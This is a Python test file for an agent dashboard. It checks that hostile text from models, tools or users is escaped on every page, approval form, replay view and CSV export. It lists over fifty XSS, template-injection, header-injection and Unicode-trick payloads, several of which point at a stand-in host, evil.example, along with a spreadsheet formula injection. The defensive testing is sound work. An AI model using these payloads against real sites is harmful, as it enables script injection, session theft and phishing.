"""What models, tools and users wrote is shown as text on every page, whatever it says."""

from __future__ import annotations

from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import httpx2
import pytest

from interlock.core.events import Started
from interlock.core.time import SystemClock

from .dashboard_kit import KEY, WORKFLOW, Past, dashboard, long_task, waiting_task, workspace, write

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41</script>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=background:url(//evil.example)>",
    "<form action=//evil.example><button>Approve",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a hx-get=/ui/tasks hx-trigger=load>x</a>",
    "<div hx-on::load='alert(1)' hx-get=/ui/logout hx-trigger=load>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "` onerror=`alert(1)",
    "</textarea><script>alert(1)</script>",
    "</pre></div></main><h1>Approved by the owner</h1>",
    "</title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7*7 }}{% include 'login.html' %}",
    "{{ visitor.csrf }}{{ page.__class__.__mro__ }}",
    "${alert(1)}#{alert(1)}<%= 7*7 %>",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\u202etxt.exe <b>\u2066hidden\u2069</b>",
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07<i>",
    "\x00<\x00s\x00c\x00r\x00i\x00p\x00t>alert(1)</script>",
    "\ufeff<script\u2028>alert(1)</script\u2029>",
    "<x\x0bonclick=alert(1)>",
    "data: x\n\nevent: running\ndata: <script>alert(1)</script>",
    "\r\nset-cookie: interlock_ui=stolen\r\n\r\n<script>",
)
PAGES = ("/ui", "/ui/live", "/ui/tasks", "/ui/approvals", "/ui/pnl?span=all", "/ui/models?span=all", "/ui/quality")
INSIGHTS = ("/ui/incidents", "/ui/config", "/ui/audit")


class Skeleton(HTMLParser):
    """A page without its text: tags and the names of their attributes, and the addresses it holds."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.addresses: list[str] = []
        self.odd: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))
        self.addresses += [value or "" for name, value in attrs if name in ("src", "href", "action", "hx-get", "data")]

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def unknown_decl(self, data: str) -> None:
        self.odd.append(data)


def story(task: str, text: str, at_ns: int) -> list[Past]:
    """A waiting task and a finished one in which every text that is not ours ends with `text`."""
    waiting = waiting_task(f"{task}_waits", at_ns, lambda own: own + text)
    waiting.user = text
    ended = Past(f"{task}_ended", at_ns - 10**9, workflow=f"flow {text}", user=text)
    ended.fact = lambda own: own + text
    ended.begin()
    ended.model(failed=1, escalated=True)
    ended.tool()
    ended.note()
    ended.end("failed", error=text, message=text)
    return [waiting, ended]


@asynccontextmanager
async def shown(root: Path, texts: tuple[str, ...]) -> AsyncGenerator[httpx2.AsyncClient]:
    """The dashboard of a workspace in which the texts were said."""
    now = SystemClock().wall_ns()
    stories = [past for number, text in enumerate(texts) for past in story(f"tsk_{number:03d}", text, now - number)]
    write(workspace(root), *stories)
    async with dashboard(root) as (_, made, browser):
        await browser.get(made.address())
        yield browser


@pytest.mark.requirement("OB-08")
async def test_a_hostile_text_changes_no_page(tmp_path: Path):
    assert len(PAYLOADS) >= 40
    benign = tuple(f"harmless {number:03d}" for number in range(len(PAYLOADS)))
    tasks = [f"/ui/tasks/tsk_{n:03d}_{end}" for n in range(len(PAYLOADS)) for end in ("waits", "ended")]
    whys = [f"/ui/tasks/tsk_{n:03d}_ended/why" for n in range(len(PAYLOADS))]
    async with shown(tmp_path / "benign", benign) as browser:
        models = {path: Skeleton((await browser.get(path)).text).tags for path in (*PAGES, *tasks[:2], whys[0])}
    async with shown(tmp_path / "hostile", PAYLOADS) as browser:
        for path in (*PAGES, *tasks, *whys):
            reply = await browser.get(path)
            model = models.get(path) or models[whys[0] if path in whys else tasks[tasks.index(path) % 2]]
            skeleton = Skeleton(reply.text)
            assert reply.status_code == 200
            assert skeleton.tags == model, path
            assert skeleton.odd == [], path
            assert all(address.startswith(("/ui", "?", "#")) for address in skeleton.addresses), path
            for text in PAYLOADS:
                assert "<" not in text or text not in reply.text, (path, text)
            assert not set("\x00\x1b\u202e\u2066\ufeff\x0b") & set(reply.text), path
            assert "set-cookie" not in reply.headers


@pytest.mark.requirement("OB-08")
async def test_a_hostile_text_changes_neither_a_replay_nor_two_runs_beside_each_other(tmp_path: Path):
    benign = tuple(f"harmless {number:03d}" for number in range(len(PAYLOADS)))
    kinds = ("again", "compare?with=tsk_000_ended")
    models: dict[str, Skeleton] = {}
    async with shown(tmp_path / "benign", benign) as browser:
        for kind in kinds:
            reply = await browser.get(f"/ui/tasks/tsk_001_waits/{kind}")
            assert reply.status_code == 200
            models[kind] = Skeleton(reply.text)
    async with shown(tmp_path / "hostile", PAYLOADS) as browser:
        for number in range(len(PAYLOADS)):
            for kind in kinds:
                reply = await browser.get(f"/ui/tasks/tsk_{number:03d}_waits/{kind}")
                skeleton = Skeleton(reply.text)
                assert reply.status_code == 200
                assert skeleton.tags == models[kind].tags, (kind, number)
                assert skeleton.odd == []
                assert all(address.startswith(("/ui", "?", "#")) for address in skeleton.addresses)


async def test_a_hostile_name_beside_a_decision_is_a_text(tmp_path: Path):
    write(workspace(tmp_path), *(waiting_task(f"tsk_{n}", SystemClock().wall_ns()) for n in range(3)))
    async with dashboard(tmp_path) as (_, made, browser):
        await browser.get(made.address())
        for number, text in enumerate(("<script>alert(1)</script>", '" onmouseover="alert(1)', "\u202e<marquee>x")):
            key = {"authorization": f"Bearer {KEY}"}
            form = {"decision": "deny", "who": text, "note": text}
            step = (await browser.get("/ui/approvals.json")).json()["waiting"][0]["question"]["step"]
            reply = await browser.post(f"/ui/approvals/tsk_{number}/{step}", data=form, headers=key)
            assert reply.status_code == 303
        pages = [(await browser.get(path)).text for path in ("/ui/approvals", "/ui/audit")]
    for page in pages:
        assert "deny by" in page
        assert not {"marquee"} & {tag for tag, _ in Skeleton(page).tags}
        assert "<script>alert" not in page
        assert not any("onmouseover" in names for _, names in Skeleton(page).tags)


async def test_hostile_steps_and_filters_change_nothing_either(tmp_path: Path):
    async with shown(tmp_path, PAYLOADS[:4]) as browser:
        steps = [await browser.get(f"/ui/tasks/tsk_000_ended?step={step}") for step in range(12)]
        for reply in steps:
            assert "<script>alert" not in reply.text
        for text in PAYLOADS:
            for name in ("user", "workflow", "outcome", "status", "cost", "at", "steps", "contract"):
                page = await browser.get("/ui/tasks", params={name: text})
                assert page.status_code in (200, 400)
                assert "<" not in text or text not in page.text
            for name in ("who", "action", "target", "since", "before"):
                page = await browser.get("/ui/audit", params={name: text})
                assert page.status_code in (200, 400)
                assert "<" not in text or text not in page.text
            lost = await browser.get("/ui/tasks/" + quote(text, safe=""))
            assert lost.status_code == 404
            assert "text/html" not in lost.headers["content-type"] or "<" not in text or text not in lost.text


async def test_json_twins_cannot_be_taken_for_pages_and_a_spreadsheet_runs_nothing(tmp_path: Path):
    hostile = Past("tsk_formula", SystemClock().wall_ns(), workflow='=HYPERLINK("//evil.example")')
    hostile.begin()
    hostile.model()
    hostile.end()
    write(
        workspace(tmp_path),
        hostile,
        long_task("tsk_long", SystemClock().wall_ns() - 10**12, lambda own: own + PAYLOADS[0]),
    )
    async with dashboard(tmp_path) as (_, _, browser):
        browser.headers["authorization"] = f"Bearer {KEY}"
        twin = await browser.get("/ui/tasks/tsk_long.json")
        sheet = await browser.get("/ui/pnl.csv?span=all")

    assert twin.headers["content-type"] == "application/json"
    assert twin.headers["x-content-type-options"] == "nosniff"
    assert sheet.headers["content-disposition"].startswith("attachment")
    assert "\n=" not in sheet.text
    assert '\n"=' not in sheet.text


@pytest.mark.requirement("OB-08")
async def test_what_is_nested_deep_keeps_nobody_from_reading_or_deciding(tmp_path: Path):
    now = SystemClock().wall_ns()
    nested: object = "here"
    for _ in range(600):
        nested = [nested]
    deep = Past("tsk_deep", now)
    deep.add(Started(WORKFLOW, deep.caller(), deep.versions), {"input": {"text": nested}})
    deep.end("failed")
    write(workspace(tmp_path), deep, waiting_task("tsk_waits", now, lambda _: "[" * 100_000))
    async with dashboard(tmp_path) as (_, made, browser):
        await browser.get(made.address())
        replies = [await browser.get(path) for path in ("/ui/approvals", "/ui/tasks/tsk_waits", "/ui/tasks/tsk_deep")]
    assert [reply.status_code for reply in replies] == [200, 200, 200]
    assert "here" in replies[2].text
